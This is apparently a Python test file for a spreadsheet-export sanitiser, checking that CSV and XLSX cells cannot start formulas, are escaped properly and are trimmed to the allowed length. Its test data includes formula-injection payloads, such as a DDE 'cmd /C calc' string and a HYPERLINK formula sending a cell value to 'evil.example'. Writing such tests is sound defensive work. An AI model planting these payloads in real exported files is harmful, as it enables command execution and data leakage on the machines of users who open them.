import csv
import io
import re
import sys
import unicodedata
from xml.sax.saxutils import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st
from optkeeper.delivery import cells

_NO_SIGNS = ("Cn", "Co", "Cs")  # given to nothing, to nobody in particular, or half a sign
DANGEROUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "−1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_could_begin_a_formula_gets_an_apostrophe_and_stays_readable(text: str) -> None:
    cell = cells.for_csv(text)
    assert cell.startswith("'")
    assert cell[1:].strip() == text.strip()


@pytest.mark.parametrize(
    "text", ["'t Hart", "van den Berg", "Polder & Zonen", "a-b@c.example", "Jansen-Smit", "", "B.V. 1"]
)
def test_an_ordinary_text_stays_as_it_is(text: str) -> None:
    assert cells.for_csv(text) == text


def test_whatever_sign_a_text_begins_with_is_guarded_where_it_could_begin_a_formula() -> None:
    assigned = (sign for sign in map(chr, range(sys.maxunicode + 1)) if unicodedata.category(sign) not in _NO_SIGNS)
    for sign in assigned:
        is_formula = unicodedata.normalize("NFKC", sign)[0] in "=+-@\N{MINUS SIGN}"
        assert cells.could_be_formula(sign) == is_formula, hex(ord(sign))
        if is_formula:
            assert cells.for_csv(f"{sign}1") == f"'{sign}1"
            assert cells.for_csv(f"a,{sign}1") == f"a,'{sign}1"


def test_a_telephone_number_stays_readable_and_is_no_number_to_excel() -> None:
    assert cells.for_csv("+31201234567") == "'+31201234567"


def test_dropping_one_apostrophe_before_a_formula_sign_gives_the_value_back() -> None:
    for text in ("+31201234567", "'=1", "''@x", "-", "'t Hart", "=1;x"):
        assert re.sub(r"^'('*[=+\-@])", r"\1", cells.for_csv(text)) == text


def test_no_value_begins_a_formula_where_another_separator_cuts_the_line() -> None:
    for text in ("x;=1+1", "x,=1+1", "x|=1+1", 'x"=1+1', "x; ＝1+1"):
        cut = re.split(r'[;,|"]', cells.for_csv(text))
        assert not any(cells.could_be_formula(part) for part in cut)


def test_line_breaks_and_what_no_file_can_hold_become_readable() -> None:
    assert cells.plain("Anna\r\nJansen\x0b\x00x") == "Anna Jansen x"
    assert cells.plain("a\ufffe\uffffb") == "a\ufffd\ufffdb"


def test_what_looks_like_an_escape_of_xlsx_is_escaped() -> None:
    assert cells.escaped_for_xlsx("_x003D_1") == "_x005F_x003D_1"
    assert cells.escaped_for_xlsx("file_x1_y") == "file_x1_y"


@pytest.mark.parametrize("sign", ["x", "\N{WINKING FACE}", "\N{MATHEMATICAL BOLD CAPITAL A}", "&"])
def test_no_text_is_longer_than_a_cell_may_be_however_its_signs_are_counted(sign: str) -> None:
    units = len(sign.encode("utf-16-le")) // 2
    whole = sign * (cells.LONGEST_CELL // units)
    assert cells.for_xlsx(whole) == whole
    assert unescape(cells.escaped_for_xlsx(whole)) == whole
    for too_long in (whole + sign, "y" + whole):
        for cut in (cells.for_xlsx(too_long), unescape(cells.escaped_for_xlsx(too_long))):
            assert len(cut.encode("utf-16-le")) // 2 <= cells.LONGEST_CELL
            assert cut.endswith(f"{sign}…")
            assert too_long.startswith(cut[:-1])


def test_what_xml_would_read_as_its_own_is_escaped() -> None:
    assert cells.escaped_for_xlsx("a<b>&amp;c") == "a&lt;b&gt;&amp;amp;c"
    assert cells.escaped_for_xlsx("\x00<\n") == "&lt;"


@given(st.text(alphabet=st.sampled_from(list("=+-@＝＋－＠−;,|\"' \t\r\nab\u200b\ufeff\u00a0")), max_size=12))
def test_no_text_begins_a_formula_however_the_line_is_cut(text: str) -> None:
    cell = cells.for_csv(text)
    line = io.StringIO()
    csv.writer(line, quoting=csv.QUOTE_ALL).writerow([cell])
    assert next(csv.reader(io.StringIO(line.getvalue()))) == [cell]
    assert not any(cells.could_be_formula(part) for part in re.split(r'[;,|"]', cell))


@pytest.mark.parametrize(
    ("address", "read"),
    [
        ("jan@xn--caf-dma.example", "jan@café.example"), ("jan@plain.example", "jan@plain.example"),
        ("jan@xn--zzzzzzzzz-.example", "jan@xn--zzzzzzzzz-.example"), ("+31201234567", "+31201234567"),
    ],
)  # fmt: skip
def test_a_domain_is_read_as_people_write_it(address: str, read: str) -> None:
    assert cells.readable(address) == read
